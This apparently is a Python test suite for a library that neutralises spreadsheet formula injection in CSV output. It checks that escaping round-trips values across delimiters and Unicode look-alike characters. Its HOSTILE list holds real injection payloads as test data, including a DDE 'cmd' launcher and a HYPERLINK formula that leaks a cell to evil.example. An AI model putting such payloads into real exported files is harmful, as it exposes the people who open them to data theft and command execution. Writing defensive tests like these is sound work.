"""No cell of a file for people is a formula, however a program separates it, and each value comes back unchanged."""

from __future__ import annotations

import csv
import re
import unicodedata
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ararat.bindings.tables.delimited import LineWriter
from ararat.bindings.tables.formulas import (
    mark_formulas,
    may_have_formula,
    protect_for_import,
    remove_marks,
    without_formula,
)

SEPARATORS = ",;|\t"
IGNORED = re.compile('[\\s"\x00-\x1f\x7f-\xa0\xad\u200b-\u200f\u2060-\u2064\ufeff]*')

HOSTILE = [
    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=2+2", "\r=2+2", "\n=2+2", "\tx", "\rx", "-2+3", "+49 30 1234"),
    *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "\ufe66x", "\u207ax", "\ufb29x"),
    *(" =1", "\u00a0=1", "\u3000=1", "\ufeff=1", "\u200b=1", "\x00=1", '"=1', '""=1""', "'=1", "''=1", "'\"=1"),
    *("a;=1", "a|=1", "a\t=1", "a\n=1", "a\r\n=1", 'a;"=1"', "a; =1", "a;'=1", "a;,=1", "a;\n@x"),
    *('x","=1+1', 'x";=1+1;"', "x\n+cmd|' /C calc'!A0", "a;\uff1d1", "a;-2+3", "a;=1;=2;'=3", "'a;'=1", "'a;=1"),
    *('="00042"', '="a"&cmd', "'ark:12345/x", "''https://a.example/", '="a;=1"', "'urn:isbn:1; =x"),
    '=HYPERLINK("https://evil.example/?"&A1,"Error: click")',
]
ORDINARY = [
    *("", "map", "Maps, 1829-1830", "Smith, J.; Miller, K.", "40.7128, -74.0060", "12345-6", "a - b", "1-2; 3-4"),
    *("ark:12345/x5", "https://a.example/?a=b&c=d,e", "'s-Hertogenbosch", "'t Hof, -x", "O'Hara", "a@b.example"),
    *("two\nlines", "<a>\n\t<b/>\n</a>", '"quoted"', "c. 1850, -60", "a,b;c|d\te", "Berlin, +49 30", "x, '-y'"),
]
ALPHABET = st.text(
    st.sampled_from("=+-@'\"\t\r\n ,;|a1.\uff1d\u200b\ufeff:") | st.characters(codec="utf-8"), max_size=12
)
TEXTS = ALPHABET | st.sampled_from(HOSTILE + ORDINARY) | st.builds("{}{}".format, st.sampled_from(HOSTILE), ALPHABET)


def runs(cell: str) -> bool:
    """Return whether a spreadsheet program could run a cell: by its first sign, also in full width."""
    beginning = IGNORED.match(cell)
    rest = cell[beginning.end() :] if beginning else cell
    return unicodedata.normalize("NFKC", rest)[:1] in ("=", "+", "-", "@")


def cells(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(StringIO(text, newline=""), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_is_marked_and_comes_back(text: str) -> None:
    assert any(mark_formulas(text, delimiter) != text for delimiter in SEPARATORS)
    assert all(remove_marks(mark_formulas(text, delimiter)) == text for delimiter in SEPARATORS)
    assert may_have_formula(["a", text, "b"])


@pytest.mark.parametrize("text", ORDINARY)
def test_an_ordinary_text_is_not_changed(text: str) -> None:
    assert (
        mark_formulas(text, ","),
        protect_for_import(text, ","),
        remove_marks(text),
        without_formula(text, ","),
    ) == (text,) * 4


@given(st.lists(TEXTS, min_size=2, max_size=4), st.sampled_from(SEPARATORS))
def test_no_cell_is_a_formula_by_any_separator(row: list[str], delimiter: str) -> None:
    written = LineWriter(delimiter)(row)
    assert [remove_marks(cell) for cell in cells(written, delimiter)] == row
    assert [cell for cell in cells(written, delimiter) if cell[:1] in "=+-@\t\r" and cell] == []
    for separator in SEPARATORS:
        assert [cell for cell in cells(written, separator) if runs(cell)] == []


@given(TEXTS)
def test_each_value_comes_back_unchanged(text: str) -> None:
    assert remove_marks(mark_formulas(text, ",")) == text
    assert remove_marks(protect_for_import(text, ",")) == text
    assert remove_marks(without_formula(text, ",")) == remove_marks(text)
    assert mark_formulas(text, ",") == text or may_have_formula([text])
    (read,) = cells(LineWriter(";", formulas="kept")([text]), ";") or [""]
    assert remove_marks(read) == text


@given(TEXTS)
def test_a_cell_of_an_own_file_is_changed_only_if_it_has_a_formula(text: str) -> None:
    safe = without_formula(text, ",")
    assert without_formula(safe, ",") == safe
    assert not runs(safe) or re.fullmatch('="(?:[^"]|"")*"', safe)


@pytest.mark.parametrize("unit", [";", " ;", ";'", "\n", "'", '="', "\t", " ", ";-", "-1;", " -", ';"', "'=", '""='])
def test_long_runs_take_linear_work(unit: str) -> None:
    text = unit * (50_000 // len(unit))
    for function in (mark_formulas, protect_for_import, without_formula):
        assert function(text, ",") is not None
    assert remove_marks(mark_formulas(text, ",")) == text


@pytest.mark.parametrize(
    ("formulas", "line"),
    [
        ("marked", "ark:12345/x;'=1+1;;7;True;-3\r\n"),
        ("kept", "ark:12345/x;=1+1;;7;True;-3\r\n"),
        ("raw", "ark:12345/x;=1+1;;7;True;-3\r\n"),
    ],
)
def test_a_line_has_texts_numbers_and_empty_cells(formulas: str, line: str) -> None:
    writer = LineWriter(";", formulas=formulas)  # type: ignore[arg-type]  # a parameter of the test
    assert writer(["ark:12345/x", "=1+1", None, 7, True, -3]) == line


def test_a_carriage_return_is_quoted() -> None:
    assert cells(LineWriter(end="\n")(["a\rb", "c"]), ",") == ["a\rb", "c"]
